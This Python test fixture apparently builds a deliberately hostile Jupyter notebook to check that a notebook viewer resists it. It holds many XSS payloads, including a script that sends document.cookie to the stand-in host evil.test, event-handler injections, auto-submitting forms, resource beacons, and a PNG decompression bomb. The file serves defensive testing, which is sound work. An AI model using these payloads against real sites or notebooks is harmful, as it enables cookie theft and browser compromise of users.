"""A notebook that attacks whoever reads it, by every way that outputs, words and names offer."""

from __future__ import annotations

import base64
import json
import zlib
from typing import Any

from tests.review_notebook import answer, cell, handout, png_bytes

# Each of these would show itself: by a dialog, by a connection to somebody else's server, or by a changed page.
EVIL = "http://evil.test/"
SCRIPT = f"<script>alert('pwned');fetch('{EVIL}script?'+document.cookie)</script>"
HOSTILE_HTML = (
    SCRIPT,
    f"<img src=x onerror=\"alert('onerror')\"><img src='{EVIL}img.png'>",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('svg')\"><image href='{EVIL}svg.png'/></svg>",
    f"<meta http-equiv='refresh' content='0;url={EVIL}refresh'>",
    f"<form id=f action='{EVIL}form' method=post><input name=a value=b><button autofocus>x</button></form>"
    "<script>document.getElementById('f').submit()</script>",
    f"<a id=top href='{EVIL}top' target=_top>click</a><script>top.location='{EVIL}bust'</script>",
    f"<style>@import url('{EVIL}css');body{{background:url('{EVIL}bg.png')}}"
    f"@font-face{{font-family:x;src:url('{EVIL}font')}}p{{font-family:x}}</style><p>styled</p>",
    f"<iframe src='{EVIL}frame'></iframe><object data='{EVIL}object'></object><embed src='{EVIL}embed'>",
    f"<link rel=stylesheet href='{EVIL}link'><link rel=prefetch href='{EVIL}prefetch'><base href='{EVIL}'>",
    f"<link rel=preconnect href='{EVIL}'><img srcset='{EVIL}srcset 2x'><input type=image src='{EVIL}input'>"
    f"<video poster='{EVIL}poster' src='{EVIL}video' autoplay></video><audio src='{EVIL}audio' autoplay></audio>",
    f"<body background='{EVIL}body'><svg><use href='{EVIL}use#a'/><feImage href='{EVIL}fe'/></svg>",
    "<a href=\"javascript:alert('link')\">click me</a><details open ontoggle=\"alert('toggle')\"></details>",
    "</iframe></section></main><h1 id=escaped>escaped</h1>" + SCRIPT,
)
HOSTILE_TEXT = (
    f"</textarea></pre>{SCRIPT}<img src=x onerror=alert('text')> [link](javascript:alert('md')) "
    f'![p]({EVIL}markdown.png) <{EVIL}auto> \u202eesrever\u202c \x1b[31mred\x1b[0m "onmouseover=alert(1) x="'
)


def hostile(evil: str = EVIL) -> dict[str, Any]:
    """A notebook that tries everything on its reader; `evil` is the address of the attacker's server."""
    notebook = handout()
    answer(notebook, HOSTILE_TEXT)
    notebook["metadata"]["title"] = SCRIPT
    code = cell(notebook, "exercise", "look_at")
    code["source"] = f"# {HOSTILE_TEXT}\ndef look_at(): '''{SCRIPT}'''\n"
    code["outputs"] = [
        *({"output_type": "display_data", "data": {"text/html": html}} for html in HOSTILE_HTML),
        {"output_type": "stream", "name": f"stdout{SCRIPT}", "text": HOSTILE_TEXT},
        {
            "output_type": "error",
            "ename": SCRIPT,
            "evalue": "x",
            "traceback": [f"\x1b[31m{SCRIPT}"],
        },
        {"output_type": "display_data", "data": {"image/svg+xml": HOSTILE_HTML[2]}},
        {"output_type": "display_data", "data": {"text/markdown": HOSTILE_TEXT}},
        {"output_type": "display_data", "data": {"text/latex": HOSTILE_TEXT}},
        {"output_type": "display_data", "data": {"application/javascript": "alert('js output')"}},
        {"output_type": "display_data", "data": {f"x/{SCRIPT}": "?"}},
        {"output_type": "display_data", "data": {"image/png": "x\"onerror=alert('png') y=\""}},
        {"output_type": "display_data", "data": {"image/png": bomb()}},
    ]
    notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": HOSTILE_TEXT})
    notebook["cells"] += [None, 7, {"cell_type": 3, "outputs": {"a": 1}, "source": {"b": 2}}]
    found: dict[str, Any] = json.loads(json.dumps(notebook).replace(EVIL, evil))
    return found


def bomb(side: int = 60_000) -> str:
    """A PNG of a few bytes that says it is so many pixels wide and high."""
    png = bytearray(png_bytes())
    png[16:24] = side.to_bytes(4, "big") * 2
    png[29:33] = zlib.crc32(png[12:29]).to_bytes(4, "big")
    return base64.b64encode(bytes(png)).decode()
